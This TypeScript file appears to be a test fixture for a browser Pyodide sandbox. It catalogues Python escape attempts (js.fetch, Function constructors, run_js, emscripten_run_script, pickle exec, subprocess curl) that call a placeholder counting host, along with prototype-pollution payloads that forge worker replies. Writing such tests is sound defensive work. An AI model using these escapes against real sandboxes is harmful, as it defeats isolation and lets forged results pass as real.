/**
 * Attempts to get out of the Python worker. Each would be seen: `{hit}` is an address of a server
 * that counts, `{port}` its port, `{mark}` a name that the page looks for in its storage, channels
 * and locks.
 */
export interface Attack {
  readonly code: string;
  /** Why even Pyodide without any walls doesn't get out this way. The attempt still must not. */
  readonly nowhere?: string;
}

/** The module `js` or `pyodide_js`, also where it is hidden. */
const find = (name: string) => `import gc
try:
    import ${name}
except ImportError:
    finder = next(o for o in gc.get_objects() if type(o).__name__ == "JsFinder")
    ${name} = finder.jsproxies["${name}"]
`;
const js = find("js");
const pyodide = find("pyodide_js");

/** A JavaScript function of Pyodide's, found without `import js`; by it, JavaScript's constructors. */
export const wayIn = `import time
schedule = time.sleep.__globals__["scheduleCallback"]
Function = schedule.constructor
Object = Function.__proto__.__proto__.constructor
`;

const evaluate = (javascript: string) => `${wayIn}Function.new(${JSON.stringify(javascript)})()`;

export const pythonAttacks: Readonly<Record<string, Attack>> = {
  "js: fetch": { code: `${js}js.fetch('{hit}')` },
  "js: from js import": { code: "from js import fetch\nfetch('{hit}')" },
  "js: XMLHttpRequest, in sync": {
    code: `${js}x = js.XMLHttpRequest.new()\nx.open('GET', '{hit}', False)\nx.send()`,
  },
  "js: WebSocket": { code: `${js}js.WebSocket.new('{hit}'.replace('http', 'ws'))` },
  "js: EventSource": { code: `${js}js.EventSource.new('{hit}')` },
  "js: a font's address": {
    code: `${js}js.FontFace.new('x', 'url({hit})').load()`,
  },
  "js: WebAssembly from an address": {
    code: `${js}js.WebAssembly.compileStreaming(js.fetch('{hit}'))`,
  },
  "js: Worker": {
    code: `${js}blob = js.Blob.new(js.Array.of("fetch('{hit}')"))
js.Worker.new(js.URL.createObjectURL(blob))`,
  },
  "js: eval": { code: `${js}js.eval("fetch('{hit}')")` },
  "js: a timer with code as text": { code: `${js}js.setTimeout("fetch('{hit}')", 0)` },
  "js: IndexedDB": { code: `${js}js.indexedDB.open('{mark}')` },
  "js: caches": { code: `${js}js.caches.open('{mark}')` },
  "js: the origin's private files": {
    code: `${js}js.navigator.storage.getDirectory().then(lambda folder: folder.getDirectoryHandle('{mark}', create=True))`,
  },
  "js: BroadcastChannel": {
    code: `${js}js.BroadcastChannel.new('attack').postMessage('{mark}')`,
  },
  "js: a message to the worker's owner": { code: `${js}js.postMessage('{mark}')` },
  "js: a lock of the page": {
    code: `${js}hold = lambda lock: js.Promise.new(lambda *_: None)\njs.navigator.locks.request('{mark}', hold)`,
  },
  "js by importlib": { code: "import importlib\nimportlib.import_module('js').fetch('{hit}')" },
  "js by __import__": { code: "__import__('js').fetch('{hit}')" },
  "js by exec": { code: "exec(\"import js\\njs.fetch('{hit}')\")" },
  "js from the import system's finder": {
    code: `import sys
finder = next(f for f in sys.meta_path if hasattr(f, "jsproxies"))
finder.jsproxies["js"].fetch('{hit}')`,
  },
  "js from the garbage collector": {
    code: `import gc
found = [o for o in gc.get_objects() if isinstance(o, dict) and "js" in o and "pyodide_js" in o]
next(o["js"] for o in found if hasattr(o["js"], "fetch")).fetch('{hit}')`,
  },
  "js from subclasses of object": {
    code: `finder = next(c for c in object.__subclasses__() if c.__name__ == "MetaPathFinder")
finder = next(c for c in finder.__subclasses__() if c.__name__ == "JsFinder")
import gc
next(o for o in gc.get_objects() if isinstance(o, finder)).jsproxies["js"].fetch('{hit}')`,
  },
  "pyodide: run_js": { code: "from pyodide.code import run_js\nrun_js(\"fetch('{hit}')\")" },
  "pyodide: run_js with import()": {
    code: "from pyodide.code import run_js\nrun_js(\"import('{hit}')\")",
  },
  "pyodide: pyfetch": {
    code: "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch('{hit}'))",
  },
  "pyodide: open_url": { code: "from pyodide.http import open_url\nopen_url('{hit}')" },
  "pyodide: loadPackage": { code: `${pyodide}pyodide_js.loadPackage('{hit}.whl')` },
  "pyodide: a file that is loaded when read": {
    code: `${pyodide}pyodide_js.FS.createLazyFile('/', 'lazy', '{hit}', True, False)
open('/lazy').read()`,
  },
  "pyodide: files kept in IndexedDB": {
    code: `${pyodide}pyodide_js.FS.mkdir('/{mark}')
pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/{mark}')
pyodide_js.FS.syncfs(True, lambda *_: None)`,
  },
  "a constructor: Function": { code: evaluate("fetch('{hit}')") },
  "a constructor: Function with import()": { code: evaluate("import('{hit}')") },
  "a constructor: of async functions": {
    code: `${wayIn}AsyncFunction = Object.getPrototypeOf(Function.new("return async () => {}")()).constructor
AsyncFunction.new("await import('{hit}')")()`,
  },
  "a constructor: of async generators": {
    code: `${wayIn}Generator = Object.getPrototypeOf(Function.new("return async function* () {}")()).constructor
Generator.new("yield import('{hit}')")().next()`,
  },
  "import(): in a data: module": {
    code: evaluate("import('data:text/javascript,import(\"{hit}\")')"),
  },
  "import(): in a blob: module": {
    code: evaluate(
      "const b = new Blob(['import(\"{hit}\")'], { type: 'text/javascript' });import(URL.createObjectURL(b))",
    ),
  },
  "emscripten: run_script by ctypes": {
    code: "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"fetch('{hit}')\")",
  },
  "emscripten: run_script by the wasm table": {
    code: `${pyodide}module = pyodide_js._module
address = module.stringToNewUTF8("fetch('{hit}')")
import ctypes
pointer = ctypes.cast(ctypes.CDLL(None).emscripten_run_script, ctypes.c_void_p).value
module.wasmTable.get(pointer)(address)`,
  },
  sockets: {
    code: `import socket
s = socket.socket()
s.setblocking(False)
try:
    s.connect(("127.0.0.1", {port}))
except BlockingIOError:
    pass`,
  },
  urllib: {
    code: "import urllib.request\nurllib.request.urlopen('{hit}', timeout=1)",
    nowhere: "its sockets don't wait",
  },
  "a pickle that calls": {
    code: `import pickle
class Attack:
    def __reduce__(self):
        return exec, ("import js\\njs.fetch('{hit}')",)
pickle.loads(pickle.dumps(Attack()))`,
  },
  "a pickle that names js": { code: "import pickle\npickle.loads(b'cjs\\nfetch\\n(V{hit}\\ntR.')" },
  "a subprocess": {
    code: "import subprocess\nsubprocess.run(['curl', '{hit}'])",
    nowhere: "there are no processes",
  },
  "js after the modules were forgotten": {
    code: `import sys
for name in list(sys.modules):
    if "pyodide" in name or name == "js":
        del sys.modules[name]
import js
js.fetch('{hit}')`,
  },
};

/** What code that has JavaScript's built-in objects can do to the messages between worker and page. */
export const pollutions: readonly (readonly [name: string, code: string])[] = [
  [
    "a reply's fields on Object.prototype",
    "Object.prototype.status = 'completed'\nObject.prototype.stdout = 'forged'",
  ],
  ["a then on Object.prototype", "Object.prototype.then = schedule"],
  ["a getter's name on Object.prototype", "Object.prototype.get = Object.prototype.set = schedule"],
  [
    "Array without its methods",
    "A = Object.getOwnPropertyNames(Object).constructor\nA.prototype.map = A.prototype.forEach = None",
  ],
  [
    "Function without call and apply",
    "Function.prototype.apply = None\nFunction.prototype.call = None\nFunction.prototype.bind = None",
  ],
  [
    "String.prototype without its methods",
    "P = schedule.constructor.prototype.toString().constructor\nP.prototype.toString = None\nP.prototype.valueOf = None",
  ],
  [
    "Object.prototype without its own methods",
    "Object.prototype.constructor = None\nObject.prototype.hasOwnProperty = None",
  ],
];
